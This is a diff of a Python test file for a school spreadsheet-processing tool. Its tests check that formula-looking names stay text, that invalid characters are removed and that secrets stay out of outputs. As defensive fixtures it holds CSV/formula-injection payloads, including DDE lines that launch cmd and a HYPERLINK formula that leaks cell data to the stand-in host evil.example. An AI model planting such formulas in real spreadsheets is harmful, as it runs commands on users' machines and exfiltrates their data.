@@ -16,9 +16,11 @@ import re
 import shutil
 import zipfile
 from pathlib import Path
+from types import SimpleNamespace
 
 import openpyxl
 import pytest
+from conftest import TEMPLATE
 
 from workbook_engine.annotate import annotate
 from workbook_engine.assign import run_assign
@@ -33,13 +35,12 @@ from workbook_engine.summary import feedback_targets, summary_name
 from workbook_engine.templates import write_templates
 from workbook_engine.validate import validate_file
 
-from conftest import TEMPLATE
-
 AS_OF = dt.date(2026, 10, 20)
 DDE = '=DDE("cmd";"/C calc";"!A0")'
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
 PAYLOADS = [DDE, LINK, "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
 NONCHARS = "\ufffe\uffff\ufdd0\ufdef\U0001fffe\U0010ffff"
+RARE = "𠀋𪚥😀"  # characters beyond the BMP that are not non-characters: kept
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 
 PHONE = "13812345678"
@@ -108,11 +109,12 @@ def rename(data, mapping: dict[str, str]) -> None:
 def hostile_class(seed: int = 31, class_no: int = 1, nonchar: bool = True):
     """A class whose mentors and students carry formula-looking names (and, with nonchar, one student's name
     holds non-characters: a file openpyxl writes but cannot read back)."""
-    data = make_class(seed, 7, class_no, students=10, mentors=2, until=AS_OF)
+    data = make_class(seed, 7, class_no, students=11, mentors=2, until=AS_OF)
     mentors = [m for m in data.sheets["mentors"] if m["role"] != "班主任"]
     mapping = {mentors[0]["name"]: DDE, mentors[1]["name"]: LINK}
     for s, payload in zip(data.sheets["students"], PAYLOADS):
         mapping[s["name"]] = payload
+    mapping[data.sheets["students"][-2]["name"]] = "张" + RARE  # rare characters, not non-characters
     if nonchar:
         mapping[data.sheets["students"][-1]["name"]] = "王" + NONCHARS + "五"
     rename(data, mapping)
@@ -129,9 +131,9 @@ def private_class(path: Path) -> Path:
     ws["A4"] = f"座机 {LANDLINE}"
     ws["D5"] = ID_CARD  # an ID-card number typed into 学号
     ws = wb["学生名册"]
-    attention = [c.column for c in ws[1] if str(c.value or "").startswith("重点关注类别")][0]
+    attention = next(c.column for c in ws[1] if str(c.value or "").startswith("重点关注类别"))
     ws.cell(2, attention).value = FREE_ATTENTION  # free text in 重点关注类别
-    notes = [c.column for c in ws[1] if str(c.value or "").startswith("备注")][0]
+    notes = next(c.column for c in ws[1] if str(c.value or "").startswith("备注"))
     ws.cell(3, notes).value = f"奶奶电话 {PHONE}"  # the class's own note: fine in its own book
     ws = wb["学生档案"]
     ws["A2"] = data.sheets["students"][0]["student_id"]
@@ -188,7 +190,7 @@ def school(tmp_path_factory):
     out = base / "out"
     result = run_inbox(inbox, out, as_of=AS_OF)
     assert result.settings.limits.passwords == [PASSWORD, "123456"]
-    return base, inbox, out, result
+    return SimpleNamespace(inbox=inbox, out=out, result=result, books=_outputs(out, result))
 
 
 def _outputs(out: Path, result) -> dict[str, Path]:
@@ -201,8 +203,7 @@ def _outputs(out: Path, result) -> dict[str, Path]:
 def test_run_outputs_keep_formula_looking_names_as_text(school):
     """Names typed as formulas come out of run as text cells in the merged book, the summary and the
     class's feedback book (the validated value: leading whitespace is trimmed, so '\\t=1+1' is '=1+1')."""
-    base, inbox, out, result = school
-    books = _outputs(out, result)
+    books = school.books
     for key in ("merged", "summary", "feedback1"):
         assert_no_formulas(books[key])
     for payload in PAYLOADS:
@@ -217,8 +218,8 @@ def test_run_outputs_keep_formula_looking_names_as_text(school):
 @pytest.mark.parametrize("writer", ["fast", "xlsxwriter", "xlsxwriter-deferred"])
 def test_every_writer_stores_each_payload_as_the_same_text(tmp_path, writer):
     """The run's two writers, each payload in a cell of its own: read back, the same text, as text; and a
-    non-character in the text is gone, the rest of the text kept."""
-    values = PAYLOADS + ["a" + NONCHARS + "b"]
+    non-character in the text is gone, the rest of the text kept (and rare CJK characters and emoji too)."""
+    values = PAYLOADS + ["a" + NONCHARS + "b", RARE]
     path = tmp_path / f"{writer}.xlsx"
     if writer == "fast":
         book = FastBook()
@@ -235,7 +236,7 @@ def test_every_writer_stores_each_payload_as_the_same_text(tmp_path, writer):
         b.close()
     assert_no_formulas(path)
     got = [v for _, _, v, t in cells(path) if v != "值"]
-    assert got == PAYLOADS + ["ab"]
+    assert got == PAYLOADS + ["ab", RARE]
     assert all(t == "s" for s, ref, v, t in cells(path))
 
 
@@ -256,10 +257,11 @@ def test_assign_writes_mentor_and_student_names_as_text(tmp_path):
     assert_no_formulas(out)
     wb = openpyxl.load_workbook(out)
     roster = wb["学生名册"]
-    col = [c.column for c in roster[1] if str(c.value or "").startswith("导师姓名")][0]
+    col = next(c.column for c in roster[1] if str(c.value or "").startswith("导师姓名"))
     names = {roster.cell(r, col).value for r in range(2, roster.max_row + 1)} - {None}
     assert names == {DDE, LINK}
-    assert all(roster.cell(r, col).data_type == "s" for r in range(2, roster.max_row + 1))
+    assert all(roster.cell(r, col).data_type == "s" for r in range(2, roster.max_row + 1)
+               if roster.cell(r, col).value is not None)
     note = texts(out)
     assert any(v.startswith(DDE + " ") for v in note) and any(v.startswith(LINK + " ") for v in note)
     for payload in PAYLOADS:  # 分配说明 lists every student by name
@@ -295,14 +297,15 @@ def test_templates_hold_no_formula_and_no_unwritable_character(tmp_path):
 
 # -- item 10: characters no workbook can hold ------------------------------------------------------------
 def test_noncharacters_are_reported_at_their_cell_and_removed(school):
-    base, inbox, out, result = school
-    report = validate_file(inbox / "七年级1班.xlsx")
+    report = validate_file(school.inbox / "七年级1班.xlsx")
     found = [(p.sheet, p.cell, p.code, p.detail) for p in report.problems if p.code == "invalid-characters"]
     assert found and all(sheet and cell for sheet, cell, _, _ in found)
     assert any(s == "学生名册" for s, _, _, _ in found)
     assert "U+FFFE" in found[0][3] and "U+1FFFE" in found[0][3]
     named = [r["name"] for r in report.records("students")]
     assert "王五" in named  # the rest of the text is kept
+    assert "张" + RARE in named  # characters beyond the BMP that XML carries: kept, no warning
+    assert all(RARE not in str(p.value) for p in report.problems)
     en = [p.message("en") for p in report.problems if p.code == "invalid-characters"]
     assert "U+FFFE" in en[0]
 
@@ -310,12 +313,11 @@ def test_noncharacters_are_reported_at_their_cell_and_removed(school):
 def test_every_output_opens_after_noncharacters_in_a_cell(school):
     """The merged book and the class's feedback book open (they were unreadable), every output too, and
     no output holds a non-character."""
-    base, inbox, out, result = school
     nonchar = re.compile("[" + NONCHARS + "]")
-    for path in sorted(out.rglob("*.xlsx")):
+    for path in sorted(school.out.rglob("*.xlsx")):
         for value in texts(path):
             assert not nonchar.search(value), (path.name, value)
-    assert holds_text(_outputs(out, result)["feedback1"], "王五")
+    assert holds_text(school.books["feedback1"], "王五")
 
 
 @pytest.mark.slow
@@ -323,8 +325,7 @@ def test_every_output_opens_after_noncharacters_in_a_cell(school):
 def test_libreoffice_converts_the_merged_and_feedback_books_with_noncharacters(school, tmp_path):
     from test_libreoffice import convert
 
-    base, inbox, out, result = school
-    books = _outputs(out, result)
+    books = school.books
     copies = []
     for key in ("merged", "feedback1", "summary"):
         copies.append(tmp_path / f"{key}.xlsx")
@@ -357,8 +358,7 @@ def test_annotated_copy_of_a_class_workbook_saved_as_ods_or_xls_has_no_formulas(
 
 # -- item 7: secrets and private text stay out of the office's outputs ------------------------------------
 def test_report_json_holds_no_secret_phone_id_or_private_text(school):
-    base, inbox, out, result = school
-    raw = (out / "report.json").read_bytes()
+    raw = (school.out / "report.json").read_bytes()
     for secret in SECRETS:
         assert secret.encode("utf-8") not in raw, secret
         assert json.dumps(secret).encode() not in raw, secret
@@ -372,8 +372,7 @@ def test_report_json_holds_no_secret_phone_id_or_private_text(school):
 
 
 def test_summary_and_merged_lists_hold_no_phone_id_or_private_text(school):
-    base, inbox, out, result = school
-    books = _outputs(out, result)
+    books = school.books
     summary = "\n".join(texts(books["summary"]))
     for secret in SECRETS:
         assert secret not in summary, secret
@@ -388,16 +387,31 @@ def test_summary_and_merged_lists_hold_no_phone_id_or_private_text(school):
 
 def test_the_class_feedback_book_keeps_its_own_values(school):
     """That class's own book shows what was typed, so the head teacher can find and fix it."""
-    base, inbox, out, result = school
-    own = "\n".join(texts(_outputs(out, result)["feedback2"]))
+    own = "\n".join(texts(school.books["feedback2"]))
     for value in (PHONE, LANDLINE, ID_CARD, FREE_ATTENTION):
         assert value in own, value
     assert PASSWORD not in own
 
 
 def test_run_console_holds_no_secret(school, tmp_path, capsys):
-    base, inbox, out, result = school
-    main(["run", str(inbox), "--out", str(tmp_path / "out"), "--as-of", AS_OF.isoformat()])
+    main(["run", str(school.inbox), "--out", str(tmp_path / "out"), "--as-of", AS_OF.isoformat()])
     printed = capsys.readouterr()
     for secret in SECRETS:
         assert secret not in printed.out + printed.err, secret
+
+
+def test_annotate_and_assign_copy_a_file_openpyxl_cannot_read(tmp_path):
+    """A class workbook whose text holds U+FFFE (a file openpyxl writes but cannot parse back; Excel's
+    readers and calamine accept it): the annotated copy and assign's output are written from the values
+    read, and open."""
+    data = hostile_class(nonchar=True)
+    src = fill_template(TEMPLATE, data, tmp_path / "七年级1班.xlsx")
+    report = validate_file(src)
+    assert any(p.code == "invalid-characters" for p in report.problems)
+    copy = annotate(report, tmp_path / "annotated")
+    assert copy is not None and holds_text(copy, "王五") and holds_text(copy, DDE)
+    assert_no_formulas(copy)
+    out = tmp_path / "分配结果.xlsx"
+    run_assign(src, out, Settings(), "students", seed=1, on=dt.date(2026, 9, 7))
+    assert holds_text(out, "王五")
+    assert_no_formulas(out)
